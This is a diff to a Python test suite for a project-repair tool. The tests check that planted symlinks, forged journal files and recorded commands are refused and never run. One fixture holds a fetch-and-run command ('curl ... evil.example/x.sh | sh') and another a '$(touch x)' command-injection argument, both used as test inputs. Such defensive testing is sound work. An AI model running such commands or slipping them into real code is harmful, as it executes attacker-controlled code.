@@ -17,6 +17,7 @@ import sys
 import threading
 import time
 from pathlib import Path
+from typing import Any
 
 import psutil
 import pytest
@@ -24,7 +25,16 @@ import pytest
 from prisma_doctor.repair.journal import RepairBusy, RepairLock
 from prisma_doctor.repair.locks import Interrupted
 from prisma_doctor.repair.safe_fs import CrossesMount, OutsideProject, remove_tree
-from tests.helpers import DOCTOR, SERVER, doctor, doctor_environment, repair_json, set_immutable, tree_contents
+from tests.helpers import (
+    DOCTOR,
+    SERVER,
+    check_json,
+    doctor,
+    doctor_environment,
+    repair_json,
+    set_immutable,
+    tree_contents,
+)
 from tests.repair_fixtures import add_field, project_copy, repair_environment, run_query
 
 IDLE = "setInterval(() => {}, 1000)"
@@ -134,8 +144,25 @@ def test_links_planted_in_the_state_folder_write_nothing_outside(tmp_path: Path)
     assert "Traceback" not in done.stderr
     # Refused before anything was changed, and said so: not a repair that failed.
     assert done.returncode == 2, done.stdout + done.stderr
-    assert "refused: the repair lock cannot be used" in done.stderr and "nothing was changed" in done.stderr
+    # Each link named with where it leads, and the way out (attacker's trial 13, C3: a linked journal was replaced
+    # without a word).
+    for name, victim in (
+        ("generate.log", "victim-log"),
+        ("journal.json", "victim-journal"),
+        (f"journal.json.{os.getpid()}.tmp", "victim-journal"),
+        ("dev-output.log", "victim-dev"),
+    ):
+        assert f"refused: {state / name} is a link to {outside / victim}" in done.stderr, (name, done.stderr)
+    assert f"`rm {state / 'journal.json'}`" in done.stderr and "nothing was changed" in done.stderr
     assert "NOT complete" not in done.stdout + done.stderr and not (project / ".prisma-doctor" / "aside").exists()
+    # The links removed (as a person does), hard links left: each is replaced by a file of ours, never written
+    # through; the hard-linked lock refuses until it is removed too.
+    for name in ("generate.log", "journal.json", f"journal.json.{os.getpid()}.tmp", "dev-output.log"):
+        os.unlink(state / name)
+    os.link(outside / "victim-log", state / "generate.log")
+    os.link(outside / "victim-journal", state / "journal.json")
+    locked = doctor("reset", "--yes", cwd=project, repair=True)
+    assert locked.returncode == 2 and "refused: the repair lock cannot be used" in locked.stderr, locked.stderr
     os.unlink(state / "repair.lock")
     again = doctor("reset", "--yes", cwd=project, repair=True)
     assert again.returncode == 0, again.stdout + again.stderr
@@ -144,6 +171,42 @@ def test_links_planted_in_the_state_folder_write_nothing_outside(tmp_path: Path)
     for name in ("journal.json", "generate.log"):
         info = os.lstat(state / name)
         assert stat.S_ISREG(info.st_mode) and stat.S_IMODE(info.st_mode) == 0o600, name
+
+
+@pytest.mark.node
+def test_an_aside_folder_that_is_a_link_refuses_before_the_dev_server_is_stopped(
+    watch_template: Path, tmp_path: Path
+) -> None:
+    """Attacker's trial 13, H2: with `.prisma-doctor/aside` a link, every reset stopped the dev server, found the
+    link when it came to set the client aside, and started the server again, detached."""
+    from tests.watch_servers import NpmRunDev
+    from tests.watch_servers import project_copy as watch_copy
+
+    project = watch_copy(watch_template, tmp_path / "app", "tsx")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    state = project / ".prisma-doctor"
+    state.mkdir(mode=0o700)
+    (state / "aside").symlink_to(outside, target_is_directory=True)
+    server = NpmRunDev(project, tmp_path / "npm-run-dev.log").start()
+    try:
+        assert server.wait_for_status(200) == 200, server.output
+        assert server.process is not None
+        pids = {p.pid for p in psutil.Process(server.process.pid).children(recursive=True)}
+        client = tree_contents(project / "node_modules" / ".prisma" / "client")
+
+        done = doctor("reset", "--yes", "--project", str(project), env=server.environment)
+
+        assert done.returncode == 2, done.stdout + done.stderr
+        assert f"refused: {state / 'aside'} is a link to {outside}" in done.stderr, done.stderr
+        assert f"`rm {state / 'aside'}`" in done.stderr
+        # Nothing was stopped, set aside or recorded.
+        assert pids <= {p.pid for p in psutil.Process(server.process.pid).children(recursive=True)}
+        assert server.users().status == 200
+        assert tree_contents(project / "node_modules" / ".prisma" / "client") == client
+        assert list(outside.iterdir()) == [] and not (state / "journal.json").exists()
+    finally:
+        server.stop()
 
 
 def project_and_outside(tmp_path: Path, folder: str, file: str) -> tuple[Path, Path]:
@@ -165,7 +228,8 @@ def test_a_state_folder_that_is_a_link_is_not_used(tmp_path: Path) -> None:
 
     # Refused before its first step (the client is as it was), and said to be a refusal.
     assert done.returncode == 2, done.stdout + done.stderr
-    assert "refused: the repair lock cannot be used" in done.stderr and "not a plain folder" in done.stderr
+    # Said as what it is, and where it leads (attacker's trial 13, C3: "not a plain folder (Not a directory)").
+    assert f"refused: {project / '.prisma-doctor'} is a link to {outside}" in done.stderr, done.stderr
     assert "NOT complete" not in done.stdout + done.stderr
     assert "Traceback" not in done.stderr
     assert tree_contents(outside) == before
@@ -279,8 +343,7 @@ def test_a_planted_journal_command_is_never_run(tmp_path: Path) -> None:
             {"pid": 1, "command": ["npm", "run", "dev", "--", "$(touch x)"], "cwd": str(project), "port": 1},
         ],
     }
-    (project / ".prisma-doctor").mkdir(mode=0o700)
-    (project / ".prisma-doctor" / "journal.json").write_text(json.dumps(planted))
+    _plant_private_journal(project, planted)
 
     plan = doctor("restart-dev", "--dry-run", cwd=project, repair=True)
     done = doctor("restart-dev", "--yes", cwd=project, repair=True)
@@ -290,6 +353,71 @@ def test_a_planted_journal_command_is_never_run(tmp_path: Path) -> None:
     assert f"touch {marker}" not in plan.stdout.split("note:")[0]
     assert done.returncode == 1
     assert not marker.exists()
+
+
+def _plant_private_journal(project: Path, planted: dict[str, Any]) -> Path:
+    """A journal as only the doctor (or this user) writes one: 0600 in a folder 0700, so that it is read."""
+    state = project / ".prisma-doctor"
+    state.mkdir(mode=0o700, exist_ok=True)
+    journal = state / "journal.json"
+    journal.write_text(json.dumps(planted))
+    journal.chmod(0o600)
+    return journal
+
+
+def _forged_journal(project: Path) -> dict[str, Any]:
+    """The attacker's (trial 13, L8): a reset that never happened, which stopped a "server" whose command fetches and
+    runs a script."""
+    command = ["sh", "-c", "curl -s https://evil.example/x.sh | sh"]
+    return {
+        "kind": "reset",
+        "pid": 999999,
+        "started": time.time() - 60,
+        "steps": [{"name": "stop", "status": "done", "detail": "x"}],
+        "stopped": [{"pid": 999998, "command": " ".join(command), "cwd": str(project)}],
+        "dev_servers": [
+            {"pid": 999998, "command": command, "cwd": str(project), "port": 4556, "launcherPids": [999998]}
+        ],
+        "aside": [],
+    }
+
+
+def test_a_journal_others_could_have_written_is_not_believed(tmp_path: Path) -> None:
+    """A clone of a repository that carries `.prisma-doctor/journal.json` leaves it 0644 in a folder 0755: no repair
+    of this user wrote it, and `check` reported a repair that never happened."""
+    project = project_copy("npm", tmp_path / "app")
+    state = project / ".prisma-doctor"
+    state.mkdir(mode=0o755)
+    state.chmod(0o755)
+    journal = state / "journal.json"
+    journal.write_text(json.dumps(_forged_journal(project)))
+    for folder_mode, file_mode in ((0o755, 0o644), (0o700, 0o644), (0o755, 0o600)):
+        state.chmod(folder_mode)
+        journal.chmod(file_mode)
+        _, report = check_json(project)
+        assert "repair-interrupted" not in {f["code"] for f in report["findings"]}, (oct(folder_mode), report)
+        # Read, not mended: `check` writes nothing.
+        assert stat.S_IMODE(state.stat().st_mode) == folder_mode
+    # A hard link to it from elsewhere is no journal of ours either.
+    state.chmod(0o700)
+    journal.chmod(0o600)
+    os.link(journal, tmp_path / "second-name")
+    _, report = check_json(project)
+    assert "repair-interrupted" not in {f["code"] for f in report["findings"]}, report
+
+
+def test_a_recorded_command_is_never_advised_to_run(tmp_path: Path) -> None:
+    """A journal that is private (this user's, as a repair writes it) and names a stopped "server" that is no
+    project script: the user is told to start the dev server in its folder, never the recorded command."""
+    project = project_copy("npm", tmp_path / "app")
+    _plant_private_journal(project, _forged_journal(project))
+
+    _, report = check_json(project)
+
+    (finding,) = [f for f in report["findings"] if f["code"] == "repair-interrupted"]
+    advice = finding["message"].split("; run the reset again", 1)[1]
+    assert f"start your dev server in {project} yourself" in advice, finding["message"]
+    assert "curl" not in advice and "evil.example" not in advice, advice
 
 
 # 4. Removal never crosses a mount point, and a swap during removal never leads it outside.
@@ -647,8 +775,7 @@ def test_a_planted_journal_names_scripts_it_never_runs(tmp_path: Path) -> None:
             {"command": ["npm", "run", "wipe"], "cwd": "\u0000"},
         ],
     }
-    (project / ".prisma-doctor").mkdir(mode=0o700)
-    (project / ".prisma-doctor" / "journal.json").write_text(json.dumps(planted))
+    _plant_private_journal(project, planted)
 
     plan = doctor("reset", "--dry-run", cwd=project, repair=True)
     assert "not started again from its record" in plan.stdout and "Traceback" not in plan.stderr
